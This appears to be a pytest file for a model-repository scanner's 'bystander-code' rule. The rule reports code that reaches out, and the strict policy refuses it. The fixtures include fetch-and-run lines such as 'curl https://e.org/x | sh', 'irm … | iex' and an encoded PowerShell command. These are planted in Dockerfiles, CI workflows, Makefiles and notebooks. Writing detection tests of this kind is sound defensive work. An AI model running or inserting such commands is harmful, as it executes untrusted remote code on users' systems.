"""Code that nothing makes run is told and no warning, unless the policy refuses code."""

import pytest

from tests.builders import configs, safetensors
from tests.builders.evidence import dossier, place
from tests.reading import evidence
from tests.weighing import weigh
from weighbridge.core import Code, Effect, Operation, Purpose, Reference, Severity, Verdict
from weighbridge.rules import bystander_code

MODEL = {"model.safetensors": safetensors.build({"w": safetensors.tensor(0, 8)}, data=bytes(8))}

REACHING = {
    "train.py": b"import subprocess\nsubprocess.run(['true'])\n",
    "app.py": b"import requests\n\n\nclass EndpointHandler:\n    pass\n",
    "setup.py": b"exec('1')\n",
    "old.py": b"import os\nprint 'x'\n",
    "demo.ipynb": configs.notebook("!true", "import math"),
}


def source(file, *effects):
    return Code(place(file), "python", "class Net", effects=frozenset(effects))


def findings(*evidence):
    return list(bystander_code.RULE.check(dossier(*evidence)))


@pytest.mark.parametrize(
    ("effects", "severities"),
    [
        ([], []),
        ([Effect.IMPORT_TIME, Effect.FILES], []),
        ([Effect.NETWORK], [Severity.INFO]),
        ([Effect.UNREADABLE], [Severity.INFO]),
    ],
)
def test_only_what_reaches_out_is_told(effects, severities):
    assert [each.severity for each in findings(source("train.py", *effects))] == severities


def test_what_a_loader_is_told_to_run_is_no_bystander():
    wanted = Reference(place("config.json"), Purpose.CODE, "net.Net")
    assert findings(wanted, source("net.py", Effect.PROCESS)) == []


@pytest.mark.parametrize("name", sorted(REACHING))
def test_is_told_by_default_and_refused_by_strict(tmp_path, name):
    files = {**MODEL, name: REACHING[name]}
    verdict, rules, reasons = weigh(tmp_path, files)
    assert (verdict, rules) == (Verdict.ALLOW, set())
    assert "bystander-code" in {reason.rule for reason in reasons}
    verdict, rules, _ = weigh(tmp_path, files, "strict")
    assert verdict is Verdict.DENY
    assert "bystander-code" in rules


def test_each_name_that_reaches_out_is_evidence_with_its_line(tmp_path):
    _, _, reasons = weigh(tmp_path, {**MODEL, "train.py": REACHING["train.py"]})
    (reason,) = [reason for reason in reasons if reason.rule == "bystander-code"]
    (finding,) = reason.grounds
    steps = [(step.name, dict(step.attributes)["line"].value) for step in finding.evidence[1:]]
    assert steps == [("subprocess", 1), ("subprocess.run(...)", 2), ("subprocess.run", 2)]


FETCHING = b"curl https://e.org/x | sh\n"

COMMANDS = {
    "Dockerfile": b"FROM python:3.12\nRUN pip install torch\nRUN " + FETCHING,
    "docker/Dockerfile.gpu": b"FROM a\nRUN pip install -i https://e.org/simple torch\n",
    "install.bat": b"@echo off\r\npowershell -nop -enc SQBFAFgAIAAoAGkAdwByACAA\r\n",
    "install.ps1": "irm https://e.org/x | iex\n".encode("utf-16"),
    "MLproject": b'name: a\nentry_points:\n  main:\n    command: "curl https://e.org/x | sh"\n',
    "cog.yaml": b"build:\n  run:\n    - curl https://e.org/x | sh\n",
    ".gitlab-ci.yml": b"a:\n  script:\n    - " + FETCHING,
    ".github/workflows/ci.yml": b"on: push\njobs:\n  a:\n    steps:\n    - run: " + FETCHING,
    ".gitea/workflows/a b.yaml": b"jobs:\n  a:\n    steps:\n    - run: |\n        " + FETCHING,
    "action.yml": b"runs:\n  using: composite\n  steps:\n    - run: >-\n        " + FETCHING,
    ".circleci/config.yml": b"jobs:\n  a:\n    steps:\n    - run:\n        command: " + FETCHING,
    "azure-pipelines.yml": b"steps:\n- bash: " + FETCHING,
    "Makefile": b"all:\n\t" + FETCHING,
    "magic.ipynb": configs.notebook("import math\n%pip install --index-url https://e.org/simple a"),
    "shell.ipynb": configs.notebook("import math", "%%bash\nset -e\n" + FETCHING.decode()),
    "line.ipynb": configs.notebook("a = 1\n!curl https://e.org/x | sh"),
}


@pytest.mark.parametrize("name", COMMANDS)
def test_commands_that_run_what_they_fetch_are_told_with_their_lines(tmp_path, name):
    files = {**MODEL, name: COMMANDS[name]}
    verdict, rules, reasons = weigh(tmp_path, files)
    assert (verdict, rules) == (Verdict.ALLOW, set())
    (reason,) = [reason for reason in reasons if reason.rule == "bystander-code"]
    (finding,) = reason.grounds
    steps = [dict(item.attributes)["line"].value for item in finding.evidence[1:]]
    assert steps
    assert 0 not in steps
    verdict, rules, _ = weigh(tmp_path, files, "strict")
    assert verdict is Verdict.DENY
    assert "bystander-code" in rules


QUIET = {
    "Dockerfile": b"FROM a\nRUN apt-get install -y curl && pip install -r requirements.txt\n",
    "install.bat": b"@echo off\npip install torch --index-url https://download.pytorch.org/whl/cpu\n",
    "get.ps1": b"Invoke-WebRequest -Uri https://e.org/w.bin -OutFile w.bin\n",
    "MLproject": b'name: a\nentry_points:\n  main:\n    command: "python train.py"\n',
    ".github/workflows/ci.yml": b"on: push\njobs:\n  a:\n    steps:\n    - uses: a/b@v4\n"
    b"    - run: pip install -r requirements.txt && curl -o w.bin https://e.org/w.bin\n",
    "workflows/ci.yml": b"a:\n  - run: " + FETCHING,
    "notes.txt": FETCHING,
    "README.md": b"# Install\n\n```\n" + FETCHING + b"```\n",
}


@pytest.mark.parametrize("name", QUIET)
def test_ordinary_commands_and_manuals_are_silent(tmp_path, name):
    _, rules, reasons = weigh(tmp_path, {**MODEL, name: QUIET[name]})
    assert "bystander-code" not in rules | {reason.rule for reason in reasons}


def test_lines_of_commands_are_places():
    data = b"#!/bin/sh\n# get it\ncurl https://e.org/x \\\n | sh\n"
    steps = [item for item in evidence(data) if isinstance(item, Operation)]
    spans = {data[step.place.span.start : step.place.span.stop] for step in steps}
    assert spans == {b"curl https://e.org/x \\\n"}
